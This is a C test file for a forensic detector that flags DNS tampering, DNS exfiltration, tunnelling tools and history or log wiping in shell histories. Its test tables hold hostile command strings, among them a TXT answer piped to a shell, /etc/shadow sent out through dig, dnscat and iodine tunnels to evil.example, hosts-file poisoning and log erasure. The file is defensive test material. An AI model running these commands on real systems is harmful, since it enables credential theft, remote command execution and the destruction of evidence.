/* SPDX-License-Identifier: Apache-2.0 */
/*
 * command.c - the command detector: every pattern's examples, harmless forms,
 * attacks in other dress, sessions, and histories that record nothing.
 */
#include <stdio.h>

#include "drive.h"
#include "intel.h"
#include "tap.h"

#define T0 (INT64_C(1795000000) * USEC_PER_SEC) /* 2026-11-18T11:06:40Z */
#define HISTORY "[root]/root/.bash_history"

static const struct {
	const char *group, *rule;
} rules[] = {
	{ "domain-to-ip", "command.domain-to-ip" },
	{ "my-ip", "command.my-ip" },
	{ "doh", "command.doh" },
	{ "txt-exec", "command.txt-fetch" },
	{ "hosts-edit", "command.hosts-edit" },
	{ "resolv-edit", "command.resolver-tamper" },
	{ "immutable", "command.resolver-tamper" },
	{ "timestomp", "command.resolver-tamper" },
	{ "service", "command.resolver-tamper" },
	{ "dns-server", "command.resolver-tamper" },
	{ "redirect", "command.resolver-tamper" },
	{ "query", "command.direct-query" },
	{ "flush", "command.cache-flush" },
	{ "tunnel", "command.tunnel-tool" },
	{ "exfil", "command.exfil" },
	{ "history", "command.history-tamper" },
	{ "log", "command.log-tamper" },
	{ "snoop", "command.cache-snoop" },
	{ "server", "command.server-tamper" },
	{ "preload", "command.hook" },
	{ "nss", "command.hook" },
	{ "ebpf", "command.hook" },
	{ "persist", "persistence.dns" },
};

static const char *
rule_of(const struct shell_pattern *p)
{
	for (size_t i = 0; i < array_size(rules); i++)
		if (strcmp(rules[i].group, p->group) == 0)
			return rules[i].rule;
	return "";
}

/* One command of one user, at a line of a member of its own or root's. */
static struct record
command(const char *who, const char *text, uint32_t line, struct member *m)
{
	return (struct record){ .kind = REC_COMMAND,
		.basis = BASIS_UNKNOWN,
		.time = TIME_NONE,
		.until = TIME_NONE,
		.raw = span_str(text),
		.who = span_str(who),
		.ref = { m->index, (uint32_t)strlen(text), 100 * line },
		.member = m,
		.command = { .command = span_str(text),
		    .shell = SPAN("bash"),
		    .line = line } };
}

static void
run_alone(struct drive *d, const char *who, const char *text)
{
	struct member m = drive_file(HISTORY);
	struct record r;

	m.index = d->members++;
	r = command(who, text, 1, &m);
	drive_see(d, &r);
}

/* The worst finding of the user, or NULL; of that rule, where given. */
static const struct finding *
worst_of(const struct drive *d, const char *rule, const char *who)
{
	const struct finding *worst = NULL;

	for (size_t i = 0; i < d->findings->count; i++) {
		const struct finding *f = d->findings->item[i];
		struct span subject = f->subject;

		if (rule && strcmp(f->rule->id, rule) != 0)
			continue;
		if (!span_is(text_until(&subject, ':'), who) ||
		    strcmp(f->rule->id, "command.suppressed") == 0)
			continue;
		if (!worst || f->severity > worst->severity)
			worst = f;
	}
	return worst;
}

static int
severity_number(const char *text)
{
	int s = 0;

	while (s < SEV_CRITICAL &&
	    strcmp(severity_text((enum severity)s), text) != 0)
		s++;
	return s;
}

/* Does the finding rest on this pattern? *worst: of all it rests on. */
static bool
rests_on(const struct finding *f, const char *id, int *worst)
{
	struct span rest = drive_fact_of(f, "patterns"), word;
	bool found = false;

	*worst = -1;
	while ((word = text_word(&rest)).n > 0) {
		found |= span_is(word, id);
		for (size_t i = 0; i < intel_shell_patterns_count; i++) {
			const struct shell_pattern *p =
			    &intel_shell_patterns[i];
			int n = severity_number(p->severity);

			if (span_is(word, p->id) && n > *worst)
				*worst = n;
		}
	}
	return found;
}

/* Every row's examples: the right rule, and the right severity. */
static void
examples(void)
{
	struct drive d = drive_new("command");
	char who[32];

	for (size_t i = 0; i < intel_shell_patterns_count; i++) {
		(void)snprintf(who, sizeof(who), "p%zu", i);
		run_alone(&d, who, intel_shell_patterns[i].positive);
		(void)snprintf(who, sizeof(who), "n%zu", i);
		run_alone(&d, who, intel_shell_patterns[i].negative);
	}
	drive_conclude(&d);
	ok(intel_shell_patterns_count >= 131, "%zu patterns",
	    intel_shell_patterns_count);
	for (size_t i = 0; i < intel_shell_patterns_count; i++) {
		const struct shell_pattern *p = &intel_shell_patterns[i];
		const struct finding *f;
		int worst;

		(void)snprintf(who, sizeof(who), "p%zu", i);
		f = worst_of(&d, rule_of(p), who);
		/* Other patterns may make it graver, none less grave. */
		ok(f && rests_on(f, p->id, &worst) &&
			(int)f->severity >= severity_number(p->severity) &&
			(int)f->severity <= worst,
		    "%s: %s, %s: %s", p->id, rule_of(p),
		    f ? severity_text(f->severity) : "none", p->positive);
		(void)snprintf(who, sizeof(who), "n%zu", i);
		f = worst_of(&d, rule_of(p), who);
		ok(!f || !rests_on(f, p->id, &worst), "%s: not %s", p->id,
		    p->negative);
	}
	drive_free(&d);
}

struct said {
	const char *text;
	int severity; /* -1: nothing is said */
	const char *rule;
};

#define NOTHING -1, NULL

static const struct said harmless[] = {
	{ "grep -r 'ip-api.com/json/evil.example' /var/log", NOTHING },
	{ "sudo cat /etc/ld.so.preload", NOTHING },
	{ "history | grep 'curl -s ifconfig.me'", NOTHING },
	{ "ps aux | grep iodine -f | less", NOTHING },
	{ "man dns2tcpc ; apt show dns2tcpd ", NOTHING },
	{ "dpkg -L chisel client 2>/dev/null", NOTHING },
	{ "journalctl -u systemd-resolved | grep DNSSEC=no", NOTHING },
	{ "bore local --help", NOTHING },
	{ "frpc --version", NOTHING },
	{ "# curl ifconfig.me", NOTHING },
	{ "host $(hostname)", NOTHING },
	{ "nslookup `hostname -f`", NOTHING },
	{ "getent passwd `whoami` | cut -d : -f 5", NOTHING },
	{ "ping $(hostname).local", NOTHING },
	{ "curl -L https://x.example/a-$(uname -s)-$(uname -m).tgz -o a",
	    NOTHING },
	{ "curl https://$(hostname).corp.example:9200/_cluster/health",
	    NOTHING },
	{ "dig -x 8.8.8.8 | grep PTR | cut -d ' ' -f 2", NOTHING },
	{ "nc -zvu 10.0.0.1 53", NOTHING },
	{ "resolvectl dns eth0", NOTHING },
	{ "export PROMPT_COMMAND='history -a; history -c; history -r'",
	    NOTHING },
	{ "MYSQL_HISTFILE=/dev/null mysql", NOTHING },
	{ "augenrules --load", NOTHING },
	{ "systemd-run --on-active=30 /bin/refresh", NOTHING },
	{ "sudo apt-get install -y iodine -t stable", SEV_MEDIUM,
	    "command.tunnel-tool" },
	{ "echo '192.168.56.10 k8s-master' >> /etc/hosts", SEV_LOW,
	    "command.hosts-edit" },
	{ "echo '127.0.0.1 '$(hostname) >> /etc/hosts", SEV_HIGH,
	    "command.hosts-edit" },
	{ "echo \"127.0.0.1 $(hostname)\" >> /etc/hosts", SEV_LOW,
	    "command.hosts-edit" },
	{ "echo 10.0.0.5 git.company.example | tee -a /etc/hosts", SEV_MEDIUM,
	    "command.hosts-edit" },
	{ "echo 127.0.0.1 ad.doubleclick.net | sudo tee -a /etc/hosts",
	    SEV_MEDIUM, "command.hosts-edit" },
	{ "cp /etc/hosts.bak /etc/hosts", SEV_MEDIUM, "command.hosts-edit" },
	{ "echo nameserver 8.8.8.8 > /etc/resolv.conf", SEV_MEDIUM,
	    "command.resolver-tamper" },
	{ "resolvectl dns wg0 10.8.0.1 1.1.1.1", SEV_MEDIUM,
	    "command.resolver-tamper" },
	{ "nmcli con mod eth0 ipv4.dns 9.9.9.9", SEV_MEDIUM,
	    "command.resolver-tamper" },
	{ "dig @127.0.0.1 -p 5353 test.local", SEV_LOW,
	    "command.direct-query" },
	{ "dig @8.8.8.8 -p 53 example.com", SEV_LOW, "command.direct-query" },
	{ "dog example.com -H @https://cloudflare-dns.com/dns-query",
	    SEV_MEDIUM, "command.doh" },
	{ "journalctl --vacuum-time=2d", SEV_LOW, "command.log-tamper" },
	{ "journalctl --vacuum-size=500M", SEV_LOW, "command.log-tamper" },
	{ "rm /var/log/*.gz /var/log/syslog.1", SEV_LOW, "command.log-tamper" },
	{ "truncate -s 0 /var/log/nginx/access.log", SEV_MEDIUM,
	    "command.log-tamper" },
	{ "history -d 512", SEV_MEDIUM, "command.history-tamper" },
	{ "LD_PRELOAD=libjemalloc.so.2 redis-server", SEV_MEDIUM,
	    "command.hook" },
	{ "watch -n 1 dig +short example.com", SEV_LOW, "persistence.dns" },
	{ "bettercap -iface eth0", SEV_MEDIUM, "command.server-tamper" },
	{ "ngrok http 80", SEV_MEDIUM, "command.tunnel-tool" },
	{ "python3 -c 'import dns.resolver as r; print(r.resolve(\"x\"))'",
	    SEV_MEDIUM, "command.txt-fetch" },
};

static const struct said attacks[] = {
	{ "cat /etc/hosts; echo 65.181.121.56 malicious.com >>/etc/hosts",
	    SEV_HIGH, "command.hosts-edit" },
	{ "sudo sh -c 'printf \"1.2.3.4\\tbank.example\\n\" >> /etc/hosts'",
	    SEV_HIGH, "command.hosts-edit" },
	{ "echo \"127.0.0.1 `hostname`\n65.181.121.56 bank.com\">>/etc/hosts",
	    SEV_HIGH, "command.hosts-edit" },
	{ "cat >> /etc/hosts <<EOF\n10.0.0.1 a\n65.181.121.56 x.com\nEOF",
	    SEV_HIGH, "command.hosts-edit" },
	{ "echo -e '0.0.0.0 a.com\\n0.0.0.0 update.nai.com' >> /etc/hosts",
	    SEV_CRITICAL, "command.hosts-edit" },
	{ "dd if=/tmp/h of=/etc/hosts", SEV_HIGH, "command.hosts-edit" },
	{ "python3 -c \"open('/etc/hosts','a').write('1.2.3.4 x.com')\"",
	    SEV_HIGH, "command.hosts-edit" },
	{ "perl -pi -e 's/x/y/' /etc/hosts", SEV_MEDIUM, "command.hosts-edit" },
	{ "sudo -e /dev/null; sudoedit /etc/hosts", SEV_LOW,
	    "command.hosts-edit" },
	{ "/usr/bin/dig +short TXT c2.evil.example|tr -d '\"'|/bin/sh",
	    SEV_CRITICAL, "command.txt-fetch" },
	{ "dig +short AAAA a.evil.example | cut -f2- -d: | xxd -r -p", SEV_HIGH,
	    "command.txt-fetch" },
	{ "./beacon.ps1 -Domain evil.example -QueryType TXT", SEV_MEDIUM,
	    "command.txt-fetch" },
	{ "echo $(curl -s ifconfig.me)", SEV_LOW, "command.my-ip" },
	{ "cat <(curl -s http://ip-api.com/json/evil.example)", SEV_HIGH,
	    "command.domain-to-ip" },
	{ "nslookup $(cat /etc/hostname).evil.example", SEV_CRITICAL,
	    "command.exfil" },
	{ "dig $(hostname).collab.example", SEV_MEDIUM, "command.exfil" },
	{ "dig `base64 -w0 /etc/shadow | cut -c1-60` @203.0.113.5",
	    SEV_CRITICAL, "command.exfil" },
	{ "curl http://$(id -un).collab.example/", SEV_HIGH, "command.exfil" },
	{ "perl dnscat.pl -d evil.example", SEV_CRITICAL,
	    "command.tunnel-tool" },
	{ "Start-Dnscat2 -Domain evil.example", SEV_CRITICAL,
	    "command.tunnel-tool" },
	{ "apt install iodine -y && iodine -f t.evil.example", SEV_CRITICAL,
	    "command.tunnel-tool" },
	{ "echo nameserver 198.51.100.7 > /etc/resolv.conf", SEV_HIGH,
	    "command.resolver-tamper" },
	{ "resolvectl dns eth0 198.51.100.7 8.8.8.8", SEV_HIGH,
	    "command.resolver-tamper" },
	{ "history -cw", SEV_HIGH, "command.history-tamper" },
	{ "echo '' > $HISTFILE; rm $HISTFILE", SEV_HIGH,
	    "command.history-tamper" },
	{ "export HISTFILE=/dev/null --help", SEV_HIGH,
	    "command.history-tamper" },
	{ "journalctl --vacuum-time=1s", SEV_HIGH, "command.log-tamper" },
	{ "journalctl --rotate --vacuum-size=1M", SEV_HIGH,
	    "command.log-tamper" },
	{ "rm -rf /var/log/*", SEV_HIGH, "command.log-tamper" },
	{ "cat /dev/zero > /var/log/messages", SEV_HIGH, "command.log-tamper" },
	{ "find /var/log -type f -exec truncate -s0 {} +", SEV_HIGH,
	    "command.log-tamper" },
	{ "LD_PRELOAD=/tmp/x.so sshd", SEV_HIGH, "command.hook" },
	{ "python3 -c 'import dns.resolver as r;"
	  "exec(r.resolve(\"c.evil.example\",\"TXT\")[0])'",
	    SEV_HIGH, "command.txt-fetch" },
	{ "bettercap -eval 'set dns.spoof.all true; dns.spoof on'",
	    SEV_CRITICAL, "command.server-tamper" },
};

static void
tell(const struct said *table, size_t n)
{
	struct drive d = drive_new("command");
	char who[32];

	for (size_t i = 0; i < n; i++) {
		(void)snprintf(who, sizeof(who), "u%zu", i);
		run_alone(&d, who, table[i].text);
	}
	drive_conclude(&d);
	for (size_t i = 0; i < n; i++) {
		const struct finding *f;

		(void)snprintf(who, sizeof(who), "u%zu", i);
		f = worst_of(&d, NULL, who);
		ok((f ? (int)f->severity : -1) == table[i].severity &&
			(!f || strcmp(f->rule->id, table[i].rule) == 0),
		    "%s%s%s: %.*s", f ? f->rule->id : "nothing", f ? " " : "",
		    f ? severity_text(f->severity) : "",
		    (int)strcspn(table[i].text, "\n"), table[i].text);
	}
	drive_free(&d);
}

static void
suppression(void)
{
	struct drive d = drive_new("command");
	const struct finding *f;

	run_alone(&d, "a", "cat /etc/ld.so.preload");
	run_alone(&d, "a", "ls -l /etc/ld.so.preload");
	run_alone(&d, "a", "echo '10.0.0.1 x' >> /etc/hosts");
	drive_conclude(&d);
	f = drive_found(&d, "command.suppressed", "benign forms");
	ok(f && f->severity == SEV_INFO && f->count == 2,
	    "what is dropped is counted and cited");
	is_str(drive_fact_of(f, "only reads or shows"), "2", "by form");
	is_str(
	    drive_fact_of(f, "hosts entry of a private address and local name"),
	    "1", "what is lowered too");
	drive_free(&d);
}

static void
grouping(void)
{
	struct drive d = drive_new("command");
	struct member m = drive_file(HISTORY);
	const struct finding *f;

	for (uint32_t i = 1; i <= 500; i++) {
		char text[64];
		struct record r;

		(void)snprintf(text, sizeof(text),
		    "dig +short TXT %u.f.Evil.example | sh", i % 7);
		r = command("root", text, i, &m);
		r.basis = i == 1 ? BASIS_EXACT : BASIS_BEFORE;
		r.time = T0;
		drive_see(&d, &r);
	}
	drive_conclude(&d);
	f = drive_found(&d, "command.txt-fetch", "root: evil.example");
	ok(f && f->count == 500 && d.findings->count == 1,
	    "five hundred lines about one domain are one finding");
	ok(f &&
		span_find(f->why,
		    SPAN("TXT answer piped to a shell (TXT01), at "
			 "2026-11-18T11:06:40Z, /root/.bash_history line 1")) >
		    0,
	    "it says what, when and where");
	ok(drive_cites(f, "dig +short TXT 1.f.Evil.example | sh"),
	    "and quotes the bytes");
	ok(f && strstr(f->attack, "T1059.004"), "with the pattern's ATT&CK");
	if (tap_failed)
		drive_dump(&d);
	drive_free(&d);
}

static void
when(void)
{
	static const struct {
		enum time_basis basis;
		const char *text;
	} table[] = {
		{ BASIS_EXACT, ", at 2026-11-18T11:06:40Z, " },
		{ BASIS_BEFORE, ", undated, before 2026-11-18T11:06:40Z, " },
		{ BASIS_WINDOW,
		    ", undated, between 2026-11-18T11:06:40Z and "
		    "2026-11-18T11:06:50Z, " },
		{ BASIS_UNKNOWN, ", undated, " },
	};

	for (size_t i = 0; i < array_size(table); i++) {
		struct drive d = drive_new("command");
		struct member m = drive_file(HISTORY);
		struct record r = command("ann", "history -c", 7, &m);
		const struct finding *f;

		r.basis = table[i].basis;
		r.time = T0;
		r.until = T0 + 10 * USEC_PER_SEC;
		drive_see(&d, &r);
		drive_conclude(&d);
		f = worst_of(&d, NULL, "ann");
		ok(f && span_find(f->why, span_str(table[i].text)) > 0,
		    "time: %s", table[i].text);
		drive_free(&d);
	}
}

struct step {
	const char *who, *text;
	uint32_t line;
	int64_t seconds; /* after T0; -1: undated */
};

/* Returns the severity of the first step's finding. */
static int
session(const struct step *steps, size_t n)
{
	struct drive d = drive_new("command");
	struct member m = drive_file(HISTORY);
	const struct finding *f;
	int severity;

	drive_fact(&d, "user", "root:0:/root:/bin/bash", TIME_NONE);
	drive_fact(&d, "user", "ann:1000:/home/ann:/bin/bash", TIME_NONE);
	drive_fact(
	    &d, "user", "www-data:33:/var/www:/usr/sbin/nologin", TIME_NONE);
	for (size_t i = 0; i < n; i++) {
		struct record r =
		    command(steps[i].who, steps[i].text, steps[i].line, &m);

		if (steps[i].seconds >= 0) {
			r.basis = BASIS_EXACT;
			r.time = T0 + steps[i].seconds * USEC_PER_SEC;
		}
		drive_see(&d, &r);
	}
	drive_conclude(&d);
	f = worst_of(&d, "command.cache-flush", steps[0].who);
	severity = f ? (int)f->severity : -1;
	drive_free(&d);
	return severity;
}

static void
sessions(void)
{
	static const struct step alone[] = { { "ann", "rndc flush", 10, -1 } };
	static const struct step service[] = { { "www-data", "rndc flush", 10,
	    -1 } };
	static const struct step home[] = { { "/var/www", "rndc flush", 10,
	    -1 } };
	static const struct step near[] = {
		{ "root", "rndc flush", 10, -1 },
		{ "ann", "iodine -f t.x.example", 30, -1 },
	};
	static const struct step far[] = {
		{ "root", "rndc flush", 10, -1 },
		{ "ann", "iodine -f t.x.example", 31, -1 },
	};
	static const struct step debugging[] = {
		{ "root", "rndc flush", 10, -1 },
		{ "root", "dig @8.8.8.8 x.example", 11, -1 },
		{ "root", "nslookup -type=txt x.example", 12, -1 },
	};
	static const struct step covering[] = {
		{ "ann", "rndc flush", 10, -1 },
		{ "ann", "history -c", 12, -1 },
	};
	static const struct step soon[] = {
		{ "ann", "rndc flush", 10, 0 },
		{ "ann", "unset HISTFILE", 500, 600 },
	};
	static const struct step late[] = {
		{ "ann", "rndc flush", 10, 0 },
		{ "ann", "unset HISTFILE", 11, 601 },
	};
	static const struct step other[] = {
		{ "ann", "rndc flush", 10, 0 },
		{ "root", "unset HISTFILE", 11, 5 },
	};

	ok(session(alone, 1) == SEV_MEDIUM, "alone: as the pattern says");
	ok(session(service, 1) == SEV_HIGH, "a service account: one step up");
	ok(session(home, 1) == SEV_HIGH, "known by its home: one step up");
	ok(session(near, 2) == SEV_HIGH, "20 lines from an attack: up");
	ok(session(far, 2) == SEV_MEDIUM, "21 lines: not");
	ok(session(debugging, 3) == SEV_MEDIUM, "looking for a fault: not");
	ok(session(covering, 2) == SEV_HIGH, "beside a cleared history: up");
	ok(session(soon, 2) == SEV_HIGH, "within ten minutes: up");
	ok(session(late, 2) == SEV_MEDIUM, "later: not, however near");
	ok(session(other, 2) == SEV_MEDIUM, "another user: not");
}

static void
long_entries(void)
{
	struct drive d = drive_new("command");
	struct member m = drive_file(HISTORY);
	static char text[9000];
	const struct finding *f;
	struct record r;

	memset(text, 'a', sizeof(text) - 1);
	memcpy(text + 4000, "\ndig +short TXT c2.evil.example | sh\n", 37);
	r = command("root", text, 5, &m);
	drive_see(&d, &r);
	drive_conclude(&d);
	f = drive_found(&d, "command.txt-fetch", "root: evil.example");
	ok(drive_cites(f, "dig +short TXT c2.evil.example | sh") &&
		f->cite[0].ref.offset == 500 + 4001,
	    "of a long entry, the line is quoted, by its place");
	ok(f && span_find(f->why, SPAN(" line 6")) > 0, "and numbered");
	drive_free(&d);
}

static struct drive
users(void)
{
	struct drive d = drive_new("command");

	drive_fact(&d, "user", "root:0:/root:/bin/bash", TIME_NONE);
	drive_fact(&d, "user", "ann:1000:/home/ann:/bin/bash", TIME_NONE);
	drive_fact(&d, "user", "bob:1001:/srv/bob:/bin/zsh", TIME_NONE);
	drive_fact(
	    &d, "user", "svc:999:/var/lib/svc:/usr/sbin/nologin", TIME_NONE);
	return d;
}

static void
links(void)
{
	static const struct {
		const char *kind, *what, *text;
		int severity;
	} table[] = {
		{ "symlink", "/root/.bash_history", "/dev/null", SEV_HIGH },
		{ "symlink", "/home/ann/.zsh_history", "/dev/null", SEV_HIGH },
		{ "symlink", "/var/lib/svc/.bash_history", "/dev/null",
		    SEV_MEDIUM },
		{ "symlink", "/root/.mysql_history", "/dev/null", SEV_LOW },
		{ "symlink", "/root/.bash_history", "/dev/shm/.h", SEV_HIGH },
		{ "symlink", "/root/.bash_history", "/tmp/h", SEV_MEDIUM },
		{ "symlink", "/root/.bash_history", "/data/history", -1 },
		{ "symlink", "/root/.bashrc", "/dev/null", -1 },
		{ "special", "/home/ann/.bash_history", "FIFO", SEV_HIGH },
		{ "special", "/dev/null", "device", -1 },
		{ "absent", "/root/.bash_history", "", -1 },
	};

	for (size_t i = 0; i < array_size(table); i++) {
		struct drive d = users();
		const struct finding *f;

		drive_note(&d, table[i].kind, table[i].what, table[i].text);
		drive_conclude(&d);
		f = drive_found(&d, "history.disabled", table[i].what);
		ok((f ? (int)f->severity : -1) == table[i].severity,
		    "%s %s %s: %s", table[i].what, table[i].kind, table[i].text,
		    f ? severity_text(f->severity) : "nothing");
		drive_free(&d);
	}
}

static void
login(struct drive *d, const char *user)
{
	struct record r = { .kind = REC_LOGIN,
		.basis = BASIS_EXACT,
		.time = T0,
		.until = TIME_NONE,
		.login = { .event = LOGIN_BEGIN, .user = span_str(user) } };

	drive_see(d, &r);
}

static void
files(void)
{
	struct drive d = users();
	struct member m = drive_file("[root]/home/ann/.bash_history");

	m.flags = 0x10;
	drive_member(&d, m, SPAN("ls\n"), SIZE_MAX);
	drive_text(&d, "[root]/root/.bash_history", "");
	drive_text(&d, "[root]/srv/bob/.zsh_history", "");
	drive_text(&d, "[root]/var/lib/svc/.bash_history", "");
	login(&d, "bob");
	login(&d, "svc");
	drive_note(&d, "refused", "/srv", "left out");
	drive_conclude(&d);
	ok(drive_found(&d, "history.disabled", "/home/ann/.bash_history"),
	    "an immutable history");
	ok(drive_found(&d, "history.disabled", "/srv/bob/.zsh_history"),
	    "an empty history of a user who was there");
	ok(d.findings->count == 2, "of an unused account, nothing");
	ok(d.findings->gaps == 1 &&
		span_is(d.findings->gap[0].what, "/srv/bob"),
	    "a home that could not be read is a gap");
	drive_free(&d);
}

/* As Debian 12 ships it, in part. */
static const char stock[] =
    "# ~/.bashrc: executed by bash(1) for non-login shells.\n"
    "case $- in\n    *i*) ;;\n      *) return;;\nesac\n"
    "HISTCONTROL=ignoreboth\n# append to the history file\n"
    "shopt -s histappend\nHISTSIZE=1000\nHISTFILESIZE=2000\n"
    "[ -x /usr/bin/lesspipe ] && eval \"$(SHELL=/bin/sh lesspipe)\"\n"
    "alias ll='ls -l'\nexport LESSHISTFILE=/dev/null\n";

static void
startup(void)
{
	struct drive d = users();
	const struct finding *f;

	drive_text(&d, "[root]/home/ann/.bashrc", stock);
	drive_conclude(&d);
	ok(drive_worst(&d) <= SEV_INFO, "a stock start-up file: nothing");
	drive_free(&d);
	d = users();
	drive_text(&d, "[root]/srv/bob/.bashrc",
	    "# unset HISTFILE\nexport HISTSIZE=0\n");
	drive_text(&d, "[root]/etc/profile.d/a.sh", "unset HISTFILE\n");
	drive_conclude(&d);
	f = drive_found(&d, "history.disabled", "/srv/bob: history size zero");
	ok(f && f->severity == SEV_HIGH && f->count == 1 &&
		drive_cites(f, "export HISTSIZE=0"),
	    "HISTSIZE=0 in a start-up file");
	f = drive_found(
	    &d, "history.disabled", "every user: history variable unset");
	ok(f && f->severity == SEV_HIGH, "unset HISTFILE for every user");
	drive_free(&d);
}

int
main(void)
{
	examples();
	tell(harmless, array_size(harmless));
	tell(attacks, array_size(attacks));
	suppression();
	grouping();
	when();
	sessions();
	long_entries();
	links();
	files();
	startup();
	return done_testing();
}
